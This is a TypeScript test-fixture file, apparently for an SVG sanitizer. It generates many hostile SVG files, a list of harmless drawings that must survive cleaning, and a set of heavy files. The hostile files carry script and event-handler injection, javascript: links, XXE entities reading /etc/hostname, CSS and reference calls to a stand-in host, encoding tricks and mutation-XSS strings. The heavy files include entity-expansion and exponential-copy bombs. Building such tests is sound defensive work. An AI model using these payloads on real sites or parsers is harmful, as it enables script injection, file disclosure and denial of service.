import { deflateSync } from 'node:zlib';

/** A file that does more than draw, or would take all memory or time, and what it tries. */
type HostileSvg = readonly [what: string, file: string | Uint8Array<ArrayBuffer>];

/** What no file may bring about: `hit` is set in the page, or something is asked of this host. */
export const OUTSIDE = 'https://outside.example/';
const RUN = 'top.hit=1';

const NAMESPACES =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"';
const DRAWING = '<circle cx="50" cy="50" r="48" fill="coral"/>';
const root = (content: string, attributes = ''): string =>
  `<svg ${NAMESPACES} viewBox="0 0 100 100"${attributes}>${DRAWING}${content}</svg>`;

const each = (
  group: string,
  contents: readonly string[],
  file: (content: string) => string | Uint8Array<ArrayBuffer> = root,
): HostileSvg[] => contents.map((content, n) => [`${group} ${n}: ${content.slice(0, 60)}`, file(content)]);

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const SCRIPT = `<script>${RUN}</script>`;
const INNER = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}">${SCRIPT}</svg>`;

const scripts = each('script', [
  SCRIPT,
  `<script><![CDATA[${RUN}]]></script>`,
  `<script type="text/ecmascript">${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script href="${OUTSIDE}a.js"/>`,
  `<script xlink:href="${OUTSIDE}a.js"/>`,
  `<script href="data:text/javascript,${RUN}"/>`,
  `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
  `<h:script>${RUN}</h:script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  ...['defs', 'g', 'symbol', 'switch', 'metadata', 'title', 'desc', 'text', 'clipPath', 'a', 'unknown'].map(
    (parent) => `<${parent}>${SCRIPT}</${parent}>`,
  ),
  `<i:data xmlns:i="https://editor.example/">${SCRIPT}</i:data>`,
  `<defs><g id="a">${SCRIPT}</g></defs><use href="#a"/>`,
  `<handler type="text/ecmascript">${RUN}</handler>`,
  `<text>a${SCRIPT}b</text>`,
]);

const handlers = [
  ...each(
    'handler',
    [
      ...['load', 'click', 'error', 'begin', 'end', 'repeat', 'focusin', 'mouseover', 'activate', 'unload'],
      ...[
        'scroll',
        'zoom',
        'toggle',
        'animationstart',
        'transitionend',
        'wheel',
        'pointerdown',
        'beforexrselect',
      ],
    ].map((event) => `<circle r="9" on${event}="${RUN}"/>`),
  ),
  ...each('handler in capitals', ['ONLOAD', 'OnLoad', 'onLOAD'], (name) => root('', ` ${name}="${RUN}"`)),
  ...each('handler of', [
    `<image href="data:image/png;base64,AA" onerror="${RUN}"/>`,
    `<style onload="${RUN}">circle{fill:red}</style>`,
    `<use href="#none" onload="${RUN}"/>`,
    `<a href="#a" onfocus="${RUN}" tabindex="1" autofocus="">a</a>`,
    `<unknown onload="${RUN}"/>`,
    `<filter onload="${RUN}"/>`,
    `<svg onload="${RUN}"/>`,
    `<text onload="${RUN}"><tspan onload="${RUN}">a</tspan></text>`,
    `<g on:load="${RUN}" xmlns:on="https://editor.example/"/>`,
    `<g onload="&#116;op.hit&#61;1"/>`,
  ]),
];

const JAVASCRIPT = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&#9;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&#58;${RUN}`,
  `&#160;javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,&lt;script>${RUN}`,
  `data:text/html;base64,${base64(SCRIPT)}`,
  `data:image/svg+xml;base64,${base64(INNER)}`,
  `${OUTSIDE}a`,
  `blob:${OUTSIDE}a`,
  `filesystem:${OUTSIDE}a`,
];
const links = [
  ...each(
    'link',
    JAVASCRIPT.map((address) => `<a href="${address}"><text y="50">a</text></a>`),
  ),
  ...each(
    'old link',
    JAVASCRIPT.map((address) => `<a xlink:href="${address}"><text y="50">a</text></a>`),
  ),
  ...each('link', [
    `<a href="#a" xlink:href="javascript:${RUN}"><text>a</text></a>`,
    `<x:a xmlns:x="http://www.w3.org/2000/svg" x:href="javascript:${RUN}">a</x:a>`,
    `<a x:href="javascript:${RUN}" xmlns:x="http://www.w3.org/1999/xlink">a</a>`,
    `<text><a href="javascript:${RUN}">a</a></text>`,
    `<h:a href="javascript:${RUN}">a</h:a>`,
    `<a href="javascript:${RUN}" target="_blank" ping="${OUTSIDE}">a</a>`,
  ]),
];

const webPages = each('web page', [
  ...[
    `<h:iframe srcdoc="&lt;script>${RUN}&lt;/script>"/>`,
    `<h:iframe src="javascript:${RUN}"/>`,
    `<h:body onload="${RUN}"/>`,
    `<h:img src="x" onerror="${RUN}"/>`,
    `<h:img srcset="${OUTSIDE}a.png 1x"/>`,
    `<h:form action="javascript:${RUN}"><h:input autofocus="" onfocus="${RUN}"/></h:form>`,
    `<h:object data="data:text/html;base64,${base64(SCRIPT)}"/>`,
    `<h:embed src="${OUTSIDE}a.swf"/>`,
    `<h:link rel="stylesheet" href="${OUTSIDE}a.css"/>`,
    `<h:meta http-equiv="refresh" content="0;url=javascript:${RUN}"/>`,
    `<h:base href="${OUTSIDE}"/>`,
    `<h:video src="${OUTSIDE}a.mp4" poster="${OUTSIDE}a.png"/>`,
    `<h:details open="" ontoggle="${RUN}"/>`,
    `<h:style>@import "${OUTSIDE}a.css";</h:style>`,
    `<h:template>${SCRIPT}</h:template>`,
  ].flatMap((html) => [html, `<foreignObject width="9" height="9">${html}</foreignObject>`]),
  `<switch><foreignObject requiredExtensions="x"><h:img src="x" onerror="${RUN}"/></foreignObject><g/></switch>`,
  `<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"><h:img src="x" onerror="${RUN}"/></s:foreignObject>`,
  `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi href="javascript:${RUN}">a</m:mi></m:math>`,
  `<g xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></g>`,
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${OUTSIDE}a.svg"/>`,
  `<iframe src="${OUTSIDE}a"/><embed src="${OUTSIDE}a"/><object data="${OUTSIDE}a"/>`,
  `<audio src="${OUTSIDE}a.mp3"/><video src="${OUTSIDE}a.mp4"><source src="${OUTSIDE}a.mp4"/></video>`,
]);

const ADDRESSES = [`${OUTSIDE}a.svg#a`, '//outside.example/a.svg#a', 'other.svg#a', 'file:///etc/hostname'];
const references = each('reference', [
  ...ADDRESSES.flatMap((address) => [
    `<image href="${address}" width="9" height="9"/>`,
    `<image xlink:href="${address}" width="9" height="9"/>`,
    `<use href="${address}"/>`,
    `<filter id="f"><feImage href="${address}"/></filter><g filter="url(#f)"/>`,
    `<g fill="url(${address})"/>`,
    `<g mask="url('${address}')"/>`,
    `<g style="filter:url(&quot;${address}&quot;)"/>`,
  ]),
  ...['clip-path', 'stroke', 'marker-end', 'marker', 'cursor', 'color-profile'].map(
    (name) => `<path d="M0 0h9" ${name}="url(${OUTSIDE}a.svg#a)"/>`,
  ),
  ...['textPath', 'mpath', 'linearGradient', 'pattern', 'tref', 'altGlyph', 'cursor', 'color-profile'].map(
    (name) => `<${name} xlink:href="${OUTSIDE}a.svg#a"/>`,
  ),
  `<font-face><font-face-src><font-face-uri xlink:href="${OUTSIDE}a.woff"/></font-face-src></font-face>`,
  `<g xml:base="${OUTSIDE}"><use href="a.svg#a"/></g>`,
  `<use href="&#104;ttps://outside.example/a.svg#a"/>`,
  `<g fill="URL( '${OUTSIDE}a.svg#a' )"/>`,
  `<g fill="u\\rl(${OUTSIDE}a.svg#a)"/>`,
  `<g fill="\\75 rl(${OUTSIDE}a.svg#a)"/>`,
  `<g fill="url(&#10;${OUTSIDE}a.svg#a)"/>`,
  `<image href="data:image/png;base64,AA" xlink:href="${OUTSIDE}a.png"/>`,
]);

const STYLES = [
  `@import "${OUTSIDE}a.css";`,
  `@import url(${OUTSIDE}a.css);`,
  `@im\\port "${OUTSIDE}a.css";`,
  `@charset "utf-8"; @import '${OUTSIDE}a.css' screen;`,
  `/* */@import/**/"${OUTSIDE}a.css";`,
  `@namespace url(${OUTSIDE});`,
  `@font-face { font-family: a; src: url(${OUTSIDE}a.woff2) } text { font-family: a }`,
  `@font-face { font-family: a; src: src("${OUTSIDE}a.woff2") }`,
  ...[
    'background',
    'cursor',
    'list-style',
    'content',
    'border-image',
    'mask-image',
    '-webkit-mask',
    'filter',
  ].map((property) => `circle { ${property}: url(${OUTSIDE}${property}.png) }`),
  ...['clip-path', 'offset-path', 'shape-outside', '-moz-binding', 'behavior', 'fill', 'stroke', '--own'].map(
    (property) => `circle { ${property}: url("${OUTSIDE}a.svg#a") }`,
  ),
  `circle { mask-image: image-set("${OUTSIDE}a.png" 1x) }`,
  `circle { mask-image: -webkit-image-set(url(${OUTSIDE}a.png) 1x) }`,
  `circle { background: image("${OUTSIDE}a.png") }`,
  `circle { background: cross-fade("${OUTSIDE}a.png", red) }`,
  `circle { background: paint(worklet); width: expression(${RUN}) }`,
  `circle { --a: url(${OUTSIDE}a.svg#a); fill: var(--a) }`,
  `circle { fill: var(--a, url(${OUTSIDE}a.svg#a)) }`,
  `circle[r^="4"] { background: url(${OUTSIDE}leak) }`,
  `@media screen { circle { fill: url(${OUTSIDE}a.svg#a) } }`,
  `@supports (fill: red) { @media all { circle:nth-child(1) { fill: url(${OUTSIDE}a.svg#a) } } }`,
  `circle { fill: u\\rl(${OUTSIDE}a.svg#a) }`,
  `circle { fill: \\000075rl(${OUTSIDE}a.svg#a) }`,
  `circle { fill: url(${OUTSIDE}a.svg#a`,
  `circle { a: "}" ; fill: url(${OUTSIDE}a.svg#a) }`,
  `circle { a: '/*'; fill: url(${OUTSIDE}a.svg#a); b: '*/' }`,
  `circle { a: "/*" } @import "${OUTSIDE}a.css"; circle { b: "*/" }`,
  `@keyframes a { to { fill: url(${OUTSIDE}a.svg#a) } } circle { animation: a 1s infinite }`,
  `circle { transition: all 1s; fill: red } circle:hover { fill: url(${OUTSIDE}a.svg#a) }`,
];
const css = [
  ...each('CSS', STYLES, (text) => root(`<style>${text.replace(/</g, '&lt;')}</style>`)),
  ...each('CSS in CDATA', STYLES.slice(0, 8), (text) => root(`<style><![CDATA[${text}]]></style>`)),
  ...each('CSS', [
    `<style>@im</style><style>port "${OUTSIDE}a.css";</style>`,
    `<style>@im<![CDATA[port "${OUTSIDE}a.css";]]></style>`,
    `<style>@im<!-- -->port "${OUTSIDE}a.css";</style>`,
    `<s:style xmlns:s="http://www.w3.org/2000/svg">@import "${OUTSIDE}a.css";</s:style>`,
    `<defs><style media="print">@import "${OUTSIDE}a.css";</style></defs>`,
    `<style><![CDATA[a::after{content:"</style>${SCRIPT}"}]]></style>`,
    `<style>g[a="}&lt;/style>&lt;script>${RUN}&lt;/script>"] { fill: red }</style>`,
    `<style><g>@import "${OUTSIDE}a.css";</g></style>`,
    `<style>@im<g>a</g>port "${OUTSIDE}a.css";</style>`,
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${OUTSIDE}a.css"/>`,
  ]),
  ...each(
    'style',
    [
      'fill:url(A)',
      'background:url(A)',
      'mask:url(#a),url(A)',
      "mask-image:image-set('A' 1x)",
      'cursor:url(A),auto',
    ],
    (style) => root(`<circle r="9" style="${style.replace('A', `${OUTSIDE}a.svg#a`)}"/>`),
  ),
];

const documents = [
  ...each(
    'document type',
    [
      `SYSTEM "${OUTSIDE}a.dtd"`,
      `PUBLIC "-//W3C//DTD SVG 1.1//EN" "${OUTSIDE}a.dtd"`,
      `[<!ENTITY a SYSTEM "file:///etc/hostname">]`,
      `[<!ENTITY a SYSTEM "${OUTSIDE}a.txt">]`,
      `[<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]`,
      `[<!ENTITY a "&#60;script xmlns='http://www.w3.org/2000/svg'>${RUN}&#60;/script>">]`,
      `[<!ENTITY % b SYSTEM "${OUTSIDE}a.dtd"> %b; <!ENTITY a "">]`,
      `[<!ATTLIST circle onload CDATA "${RUN}"><!ENTITY a "">]`,
      `[<!ATTLIST svg onload CDATA #FIXED "${RUN}"><!ENTITY a "">]`,
      `[<!ATTLIST g xmlns CDATA "http://www.w3.org/1999/xhtml"><!ENTITY a "">]`,
      `[<!NOTATION n SYSTEM "${OUTSIDE}a"><!ENTITY a SYSTEM "${OUTSIDE}b" NDATA n>]`,
    ],
    (type) => `<!DOCTYPE svg ${type}>${root('<text>&a;</text><g/>')}`,
  ),
  [
    'an entity as an attribute',
    `<!DOCTYPE svg [<!ENTITY a "javascript:${RUN}">]>${root('<a href="&a;"><text>a</text></a>')}`,
  ],
  [
    'an entity as a style',
    `<!DOCTYPE svg [<!ENTITY a "fill:url(${OUTSIDE}a.svg#a)">]>${root('<g style="&a;"/>')}`,
  ],
  ...each(
    'style sheet',
    [
      `href="${OUTSIDE}a.css"`,
      `type="text/xsl" href="${OUTSIDE}a.xsl"`,
      `type="text/css" href="data:text/css,@import'${OUTSIDE}a.css'"`,
      'type="text/xsl" href="#x"',
    ],
    (sheet) => `<?xml-stylesheet ${sheet}?>${root('')}`,
  ),
  [
    'a program of its own format',
    `<?xml-stylesheet type="text/xsl" href="#x"?>${root(
      `<x:stylesheet id="x" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><h:html><h:script>${RUN}</h:script></h:html></x:template></x:stylesheet>`,
    )}`,
  ],
] satisfies HostileSvg[];

const animations = each('animation', [
  ...['animate', 'set', 'animateTransform', 'animateMotion', 'animateColor'].flatMap((name) => [
    `<a href="#a"><${name} attributeName="href" to="javascript:${RUN}" begin="0s"/><text>a</text></a>`,
    `<a id="l"><text>a</text></a><${name} href="#l" attributeName="xlink:href" values="javascript:${RUN};#"/>`,
    `<circle r="9"><${name} attributeName="onclick" to="${RUN}" onbegin="${RUN}"/></circle>`,
  ]),
  `<image width="9" height="9"><set attributeName="href" to="${OUTSIDE}a.png"/></image>`,
  `<circle r="9"><s:set xmlns:s="http://www.w3.org/2000/svg" attributeName="fill" to="url(${OUTSIDE}a.svg#a)"/></circle>`,
  `<circle r="9"><discard begin="0s"/><animate attributeName="r" values="1;9" dur="1s" repeatCount="indefinite"/></circle>`,
]);

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const NESTED = [
  `data:image/svg+xml;base64,${base64(INNER)}`,
  `data:image/svg+xml,${encodeURIComponent(INNER)}`,
  `data:image/svg+xml;charset=utf-8,${encodeURIComponent(INNER)}`,
  `data:IMAGE/SVG+XML;BASE64,${base64(INNER)}`,
  ` data:image/svg+xml;base64,${base64(INNER)}`,
  `data:image/png;base64,${base64(INNER)}`,
  `data:image/png,${encodeURIComponent(INNER)}`,
  `data:text/html;base64,${base64(SCRIPT)}`,
  `data:application/xml;base64,${base64(INNER)}`,
  `data:;base64,${base64(INNER)}`,
  `data:image/png;base64,${PIXEL}#&quot; onload=&quot;${RUN}`,
];
const nested = [
  ...each(
    'nested',
    NESTED.map((address) => `<image href="${address}" width="9" height="9"/>`),
  ),
  ...each(
    'nested filter',
    NESTED.slice(0, 3).map((address) => `<filter><feImage href="${address}"/></filter>`),
  ),
  ...each(
    'nested copy',
    NESTED.slice(0, 3).map((address) => `<use href="${address}#a"/>`),
  ),
  ...each(
    'nested fill',
    NESTED.slice(0, 3).map((address) => `<circle r="9" fill="url('${address}#a')"/>`),
  ),
];

const latin1 = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(Buffer.from(text, 'latin1'));
const utf16 = (text: string, isBigEndian: boolean, mark = '\ufeff'): Uint8Array<ArrayBuffer> => {
  const bytes = Buffer.from(mark + text, 'utf16le');
  return Uint8Array.from(isBigEndian ? bytes.swap16() : bytes);
};
const declared = (encoding: string, content: string): string =>
  `<?xml version="1.0" encoding="${encoding}"?>${root(content)}`;
/** What a reader of UTF-8 takes for a comment begins, in this encoding, outside of one: a letter swallows the first bracket. */
const SWALLOWED = `<desc><![CDATA[\u00c1]]></desc><!-- ]]></desc>${SCRIPT}<desc><![CDATA[ --><desc><![CDATA[]]></desc>`;
const encodings: HostileSvg[] = [
  ['UTF-16', utf16(declared('UTF-16', SCRIPT), false)],
  ['UTF-16 with its bytes swapped', utf16(declared('UTF-16', SCRIPT), true)],
  ['UTF-16 without a mark', utf16(declared('UTF-16', SCRIPT), false, '')],
  ['UTF-7', declared('UTF-7', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`)],
  ['an escape of ISO-2022-JP', declared('ISO-2022-JP', `<desc>\u001b$B</desc>${SCRIPT}`)],
  ['Shift JIS', declared('Shift_JIS', SWALLOWED)],
  ['GBK', declared('GBK', SWALLOWED)],
  ['Big5', declared('Big5', SWALLOWED)],
  ['EUC-JP', declared('EUC-JP', SWALLOWED)],
  ['an unknown encoding', declared('x-none', SCRIPT)],
  ['EBCDIC', declared('cp037', SCRIPT)],
  ['Latin-1', latin1(declared('ISO-8859-1', `<desc>\u00e9</desc>${SCRIPT}`))],
  ['bytes that are no UTF-8', latin1(root(`<desc>\u00e9</desc>${SCRIPT}`))],
  ['letters longer than they may be', latin1(root(`\u00c0\u00bcscript>${RUN}</script>`))],
  ['a zero', root(`<scr\0ipt>${RUN}</scr\0ipt>`)],
  ['two marks', `\ufeff\ufeff${root(SCRIPT)}`],
  ['XML 1.1', `<?xml version="1.1"?>${root(`<g onload="${RUN}&#1;"/>`)}`],
];

const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"';
const names = [
  ...each('names', [
    `<g xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></g>`,
    `<p:g xmlns:p="http://www.w3.org/1999/xhtml"><p:script>${RUN}</p:script></p:g>`,
    `<g xmlns=""><script xmlns="http://www.w3.org/2000/svg">${RUN}</script></g>`,
    `<g xmlns:h="http://www.w3.org/2000/svg"><h:script>${RUN}</h:script></g>`,
    `<k:script xmlns:k="&#104;ttp://www.w3.org/1999/xhtml">${RUN}</k:script>`,
    `<g xmlns:xlink="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><use l:href="${OUTSIDE}a.svg#a"/></g>`,
    `<undeclared:script>${RUN}</undeclared:script>`,
    `<a undeclared:href="javascript:${RUN}"><text>a</text></a>`,
    `<SCRIPT>${RUN}</SCRIPT><ScRiPt xmlns="http://www.w3.org/1999/xhtml">${RUN}</ScRiPt>`,
    `<ForeignObject><h:img src="x" onerror="${RUN}"/></ForeignObject>`,
    `<constructor/><__proto__/><g __proto__="a" constructor="b" id="__proto__"/>${SCRIPT}`,
  ]),
  [
    'a root with a prefix',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${RUN}</s:script></s:svg>`,
  ],
  ['no namespace', `<svg viewBox="0 0 9 9">${DRAWING}${SCRIPT}</svg>`],
  ['a web page as its root', `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">${SCRIPT}</svg>`],
  [
    'a web page around it',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><svg ${SVG}/>${SCRIPT}</body></html>`,
  ],
  ['something behind its end', `${root('')}${SCRIPT}`],
  ['two roots', `${root('')}${root(SCRIPT)}`],
] satisfies HostileSvg[];

const mutations = each('mutation', [
  `<title><![CDATA[</title>${SCRIPT}]]></title>`,
  `<desc>&lt;/desc>&lt;img src=x onerror=${RUN}></desc>`,
  `<text><![CDATA[</text>${SCRIPT}]]></text>`,
  `<![CDATA[${SCRIPT}]]>`,
  `<!-- --!>${SCRIPT}<!-- -->`,
  `<h:noscript><h:p title="&lt;/noscript>&lt;img src=x onerror=${RUN}>"/></h:noscript>`,
  `<h:xmp>&lt;/xmp>&lt;img src=x onerror=${RUN}></h:xmp>`,
  `<title><h:style>&lt;!--&lt;/style>&lt;img src=x onerror=${RUN}></h:style></title>`,
  `<desc><g id="&lt;/desc>&lt;img src=x onerror=${RUN}>"/></desc>`,
  `<style><g id="&lt;/style>&lt;img src=x onerror=${RUN}>"/></style>`,
  `<g id="a&quot;>&lt;script>${RUN}&lt;/script>"/>`,
  `<g class="&quot; onload=&quot;${RUN}"/>`,
  `<g fill="red&quot; onload=&quot;${RUN}"/>`,
  `<g id="a'onload='${RUN}"/>`,
  `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext><h:table><m:mglyph><h:style>&lt;img src=x onerror=${RUN}></h:style></m:mglyph></h:table></m:mtext></m:math>`,
  `<m:annotation-xml xmlns:m="http://www.w3.org/1998/Math/MathML" encoding="text/html"><h:img src="x" onerror="${RUN}"/></m:annotation-xml>`,
  `<?php ?><?xml-stylesheet href="${OUTSIDE}a.css"?>`,
  `<a href="#&quot;>&lt;script>"><text>a</text></a>`,
  `<use href="#a&quot; onload=&quot;${RUN}"/>`,
]);

const times = (count: number, text: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => text(n)).join('');
/** Groups of ten copies each of the group before: as many drawings as ten to the power of that. */
const copies = (groups: number, copy: (id: string) => string): string =>
  `<g id="c0">${DRAWING}</g>${times(groups, (n) => `<g id="c${n + 1}">${copy(`c${n}`).repeat(10)}</g>`)}`;
const deep = (depth: number, open: string, close: string): string => open.repeat(depth) + close.repeat(depth);
/** A PNG that says it is so large, of no pixels. */
const hugePng = (side: number): string => {
  const head = Buffer.alloc(25);
  head.writeUInt32BE(13, 0);
  head.write('IHDR', 4);
  head.writeUInt32BE(side, 8);
  head.writeUInt32BE(side, 12);
  head.writeUInt8(8, 16);
  const data = deflateSync(Buffer.alloc(100));
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), head, data]).toString('base64');
};

/** Files that are small, and never end; or that are as large as a file may be. */
export const heavySvgs: readonly HostileSvg[] = [
  ...each('copies', [
    copies(9, (id) => `<use href="#${id}"/>`),
    copies(9, (id) => `<use xlink:href="#${id}"/>`),
    copies(9, (id) => `<circle r="9" mask="url(#${id})"/>`),
    copies(9, (id) => `<circle r="9" style="fill:url('#${id}')"/>`),
    '<g id="a"><use href="#a"/></g>',
    '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
    '<pattern id="a"><circle r="9" fill="url(#a)"/></pattern><circle r="9" fill="url(#a)"/>',
    `<style>.a{mask:url(#c9)}</style>${copies(9, (id) => `<use href="#${id}"/>`)}<g class="a"/>`,
  ]),
  ['groups in groups', root(deep(200_000, '<g>', '</g>'))],
  ['groups in groups with names', root(times(20_000, (n) => `<g id="g${n}">`) + '</g>'.repeat(20_000))],
  ['texts in texts', root(deep(50_000, '<text>', '</text>'))],
  ['groups that never end', `<svg ${SVG}>${'<g>'.repeat(200_000)}`],
  [
    'namespaces in namespaces',
    root(times(5_000, (n) => `<g xmlns:n${n}="https://n.example/">`) + '</g>'.repeat(5_000)),
  ],
  ['a million elements', root('<g/>'.repeat(1_000_000))],
  ['a long attribute', root(`<g id="${'x'.repeat(8_000_000)}"/>`)],
  [
    'a long number',
    `<svg xmlns="http://www.w3.org/2000/svg" width="1${' '.repeat(500_000)}!" viewBox="0 0 9 9"/>`,
  ],
  ['a long selector', root(`<style>a${' '.repeat(500_000)}b{fill:red}</style>`)],
  ['a long name of a variable', root(`<style>a{${'-'.repeat(500_000)};fill:red}</style>`)],
  ['a long entity without an end', `<!DOCTYPE svg [<!ENTITY a ${' '.repeat(500_000)}]>${root('')}`],
  ['many attributes', root(`<g ${times(100_000, (n) => ` a${n}=""`)}/>`)],
  [
    'many rules',
    root(`<style>${times(20_000, (n) => `.a${n}{fill:red}`)}</style>${'<g class="a1"/>'.repeat(500)}`),
  ],
  ['brackets in a style', root(`<g fill="${'('.repeat(200_000)}"/><style>${'a{'.repeat(100_000)}</style>`)],
  [
    'spaces in a style',
    root(`<style>a{fill:red${' '.repeat(200_000)}x}</style><g fill="url(${' '.repeat(200_000)}"/>`),
  ],
  ['selectors', root(`<style>${'g '.repeat(40)}path{fill:red}</style>${deep(60, '<g>', '</g>')}`)],
  [
    'variables in variables',
    root(
      `<style>:root{${times(30, (n) => `--v${n}:${`var(--v${n + 1})`.repeat(20)};`)}}g{fill:var(--v0)}</style><g/>`,
    ),
  ],
  [
    'entities in entities',
    `<!DOCTYPE svg [<!ENTITY a0 "ha">${times(30, (n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`)}]>${root('<text>&a30;</text>')}`,
  ],
  [
    'a long entity',
    `<!DOCTYPE svg [<!ENTITY abc "${'x'.repeat(1_000_000)}">]>${root(`<text>${'&abc;'.repeat(1000)}</text>`)}`,
  ],
  [
    'a picture that claims to be huge',
    root(`<image width="9" height="9" href="data:image/png;base64,${hugePng(60_000)}"/>`),
  ],
];

/** Files that run, load, or show what a picture may not. */
export const hostileSvgs: readonly HostileSvg[] = [
  ...[...scripts, ...handlers, ...links, ...webPages, ...references, ...css, ...documents, ...animations],
  ...[...nested, ...encodings, ...names, ...mutations],
];

const BITMAP = `data:image/png;base64,${PIXEL}`;
/** What artists draw, and what has to be in the file still: each part that counts. */
export const harmlessSvgs: readonly (readonly [what: string, content: string, kept: readonly string[]])[] = [
  [
    'a filter',
    '<filter id="f"><feGaussianBlur stdDeviation="3"/><feOffset dx="2"/><feMerge><feMergeNode/></feMerge></filter><circle r="40" filter="url(#f)"/>',
    ['<feGaussianBlur', '<feMergeNode', 'url(#f)'],
  ],
  [
    'a mask',
    '<mask id="m"><rect width="50" height="50" fill="#fff"/></mask><circle r="40" mask="url(#m)"/>',
    ['<mask', 'url(#m)'],
  ],
  [
    'a linear gradient',
    '<linearGradient id="l"><stop offset="0" stop-color="red"/><stop offset="1"/></linearGradient><circle r="40" fill="url(#l)"/>',
    ['<linearGradient', 'stop-color', 'url(#l)'],
  ],
  [
    'a gradient of another',
    '<linearGradient id="l"><stop/></linearGradient><radialGradient id="r" xlink:href="#l"/><circle r="40" fill="url(#r)"/>',
    ['<radialGradient', '#l'],
  ],
  [
    'a clip path',
    '<clipPath id="c"><circle r="30"/></clipPath><rect width="90" height="90" clip-path="url(#c)"/>',
    ['<clipPath', 'url(#c)'],
  ],
  [
    'a pattern',
    '<pattern id="p" width="9" height="9" patternUnits="userSpaceOnUse"><path d="M0 0h9"/></pattern><circle r="40" fill="url(#p)"/>',
    ['<pattern', 'url(#p)'],
  ],
  [
    'a marker',
    '<marker id="a"><path d="M0 0h9"/></marker><path d="M0 0h50" marker-end="url(#a)"/>',
    ['<marker', 'url(#a)'],
  ],
  [
    'text',
    '<text x="9" y="50" font-size="20">Fish <tspan fill="red">&amp; chips</tspan></text>',
    ['<text', '<tspan', '&amp; chips'],
  ],
  [
    'text on a path',
    '<path id="w" d="M0 50h90"/><text><textPath href="#w">wave</textPath></text>',
    ['<textPath', '#w', 'wave'],
  ],
  [
    'copies',
    '<symbol id="s" viewBox="0 0 9 9"><circle r="9"/></symbol><use href="#s" x="9"/>',
    ['<symbol', '<use', '#s'],
  ],
  ['copies of old', '<g id="s"><circle r="9"/></g><use xlink:href="#s"/>', ['<use', '#s']],
  ['CSS classes', '<style>.a{fill:red}.b{stroke:blue}</style><circle class="a b" r="40"/>', ['red', 'blue']],
  [
    'CSS in CDATA',
    '<style><![CDATA[.a { fill: url(#l) }]]></style><linearGradient id="l"/><circle class="a" r="40"/>',
    ['url(#l)'],
  ],
  ['a style of its own', '<circle r="40" style="fill:red;mix-blend-mode:multiply"/>', ['red', 'multiply']],
  ['a bitmap', `<image href="${BITMAP}" width="90" height="90"/>`, ['<image', PIXEL]],
  ['a bitmap as of old', `<image xlink:href="${BITMAP}" width="90" height="90"/>`, ['<image', PIXEL]],
  [
    'a bitmap in a filter',
    `<filter id="f"><feImage href="${BITMAP}"/></filter><circle r="40" filter="url(#f)"/>`,
    ['<feImage', PIXEL],
  ],
  ['names of parts', '<g id="tail" data-pivot="9 9"><path d="M0 0h9"/></g>', ['id="tail"', 'data-pivot']],
  ['a transformation', '<g transform="rotate(45 50 50) scale(2)"><circle r="20"/></g>', ['rotate(45 50 50)']],
  [
    'a drawing in a drawing',
    '<svg x="9" y="9" width="50" height="50" viewBox="0 0 9 9"><circle r="9"/></svg>',
    ['viewBox="0 0 9 9"'],
  ],
  [
    'lighting',
    '<filter id="f"><feDiffuseLighting lighting-color="red"><fePointLight x="9" y="9" z="9"/></feDiffuseLighting></filter><circle r="40" filter="url(#f)"/>',
    ['<feDiffuseLighting', '<fePointLight'],
  ],
  [
    'what editors add',
    '<metadata xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:RDF rdf:about="https://editor.example/"/></metadata><circle r="40"/>',
    ['<circle'],
  ],
].map(
  ([what, content, kept]) => [what as string, root(content as string), kept as readonly string[]] as const,
);
